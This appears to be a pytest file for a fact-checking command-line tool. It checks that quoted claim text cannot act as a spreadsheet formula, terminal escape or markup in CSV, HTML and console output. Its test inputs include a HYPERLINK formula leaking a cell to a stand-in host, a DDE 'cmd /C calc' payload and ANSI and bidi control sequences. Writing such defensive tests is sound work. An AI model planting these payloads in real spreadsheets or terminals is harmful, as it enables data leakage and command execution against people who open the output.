"""What a claim file says reaches no terminal, spreadsheet or page as a command."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from robust_helpers import Run

from factcheck.safe_text import spreadsheet_cell, visible

FORMULAS = ['=HYPERLINK("http://x.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]
CONTROLS = "red \x1b[31mALERT\x1b[0m bell\x07 nul\x00 rlo\u202eevil\u202c end"
# what no output for people may carry: C0 controls but tab and newline, DEL, C1, bidi
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _set_quote(case: Path, quote: str, attribution: str | None = None) -> None:
    """Give the first claim of sadanews this quote (as a double-quoted YAML escape)."""
    path = case / "sources" / "sadanews.yaml"
    text = path.read_text(encoding="utf-8")
    escaped = quote.encode("unicode_escape").decode("ascii").replace('"', '\\"')
    old = "    quote: pas moins de 1,65 milliard de dollars entre janvier et septembre 2025\n"
    assert old in text
    new = f'    quote: "{escaped}"\n'
    if attribution is not None:
        text = text.replace("    attribution: MSMT report\n", "", 1)
        new += f"    attribution: '{attribution}'\n"
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_never_start_a_formula(
    cli: Callable[..., Run], example_copy: Path, formula: str
) -> None:
    _set_quote(example_copy, formula, attribution="-2+3 per " + formula.replace("'", "''"))
    run = cli("report", example_copy, "-f", "csv", "-o", "-")
    assert run.code == 0, run.err
    rows = list(csv.DictReader(io.StringIO(run.out)))
    cells = [cell for row in rows for cell in row.values()]
    assert "'" + formula in cells  # still there to read, but as text
    assert "'-2+3 per " + formula in cells
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", cell), cell


def test_spreadsheet_cell_follows_owasp() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_cell(start + "1+1").startswith("'")
    assert spreadsheet_cell("-3") == "-3" and spreadsheet_cell("+1.5") == "+1.5"
    assert spreadsheet_cell("a=b") == "a=b"


def test_visible_shows_each_control_character() -> None:
    assert visible(CONTROLS) == ("red ␛[31mALERT␛[0m bell␇ nul␀ rlo<U+202E>evil<U+202C> end")
    assert visible("tab\tand\nnewline, עברית\u200f") == "tab\tand\nnewline, עברית\u200f"
    assert visible("\x7f\x85") == "\u2421<U+0085>"


@pytest.mark.parametrize(
    ("args", "shows_quotes"),
    [
        (("compare", "{case}"), True),
        (("report", "{case}", "-f", "csv", "-o", "-"), True),
        (("report", "{case}", "-f", "html", "-o", "-"), True),
        (("compare", "{case}", "-f", "md"), False),
        (("compare", "{case}", "-f", "sarif"), False),
        (("compare", "{case}", "-f", "junit"), False),
        (("compare", "{case}", "-f", "github"), False),
    ],
)
def test_no_raw_control_character_reaches_a_reader(
    cli: Callable[..., Run], example_copy: Path, args: tuple[str, ...], shows_quotes: bool
) -> None:
    _set_quote(example_copy, CONTROLS)
    run = cli(*(a.format(case=example_copy) for a in args))
    assert run.code == 0, run.err
    assert RAW.findall(run.out.replace("\r\n", "\n")) == []  # CSV ends its lines with CR LF
    assert ("␛[31mALERT" in run.out) == shows_quotes


def test_json_keeps_the_claim_file_text_exactly(
    cli: Callable[..., Run], example_copy: Path
) -> None:
    import json

    _set_quote(example_copy, CONTROLS)
    run = cli("compare", example_copy, "-f", "json")
    quotes = [c["quote"] for t in json.loads(run.out)["topics"] for c in t["claims"]]
    assert CONTROLS in quotes


def test_rich_markup_in_a_quote_is_shown_as_written(
    cli: Callable[..., Run], example_copy: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    markup = "[link=http://x.example]click[/link] [bold red]loud[/]"
    _set_quote(example_copy, markup)
    monkeypatch.setenv("COLUMNS", "400")  # wide enough that no cell wraps
    run = cli("compare", example_copy)
    assert markup in run.out


def test_a_problem_quoting_a_line_break_stays_one_line(
    cli: Callable[..., Run], example_copy: Path
) -> None:
    path = example_copy / "sources" / "sadanews.yaml"
    text = path.read_text(encoding="utf-8").replace("id: sadanews", 'id: "bad\\nid\\u001b[2J"', 1)
    path.write_text(text, encoding="utf-8")
    run = cli("compare", example_copy)
    assert run.code == 2
    assert run.lines == [
        f"error: {path}:1: id: 'bad\\nid␛[2J' is not a valid id (lowercase letters, digits, . _ -)"
    ]


def test_check_and_resolve_show_control_characters_too(
    cli: Callable[..., Run], example_copy: Path
) -> None:
    path = example_copy / "sources" / "sadanews.yaml"
    text = path.read_text(encoding="utf-8")
    old = "    quote: créée en octobre dernier\n"
    assert old in text
    path.write_text(text.replace(old, '    quote: "créée \\u001b[2J en octobre dernier"\n'))
    check = cli("check", example_copy)
    assert check.code == 1
    assert "créée ␛[2J en octobre dernier" in check.out  # the hint quotes it
    assert RAW.findall(check.out) == []
    resolve = cli("resolve", example_copy, "cc23", "--status", "accepted", "--note", "n")
    assert resolve.code == 0 and RAW.findall(resolve.out) == []


def test_rules_from_any_folder_show_control_characters(
    cli: Callable[..., Run], tmp_path: Path
) -> None:
    import shutil

    rules = Path(__file__).resolve().parents[2] / "rules"
    folder = tmp_path / "rules"
    shutil.copytree(rules, folder)
    first = sorted(folder.glob("*.yaml"))[0]
    text = first.read_text(encoding="utf-8")
    summary = text.index("summary:")
    first.write_text(
        text[:summary] + 'summary: "bell\\a and \\e[31m"\n' + text[text.index("\n", summary) + 1 :]
    )
    run = cli("rules", "--rules", folder)
    assert run.code == 0, run.err
    assert "bell␇ and ␛[31m" in run.out and RAW.findall(run.out) == []
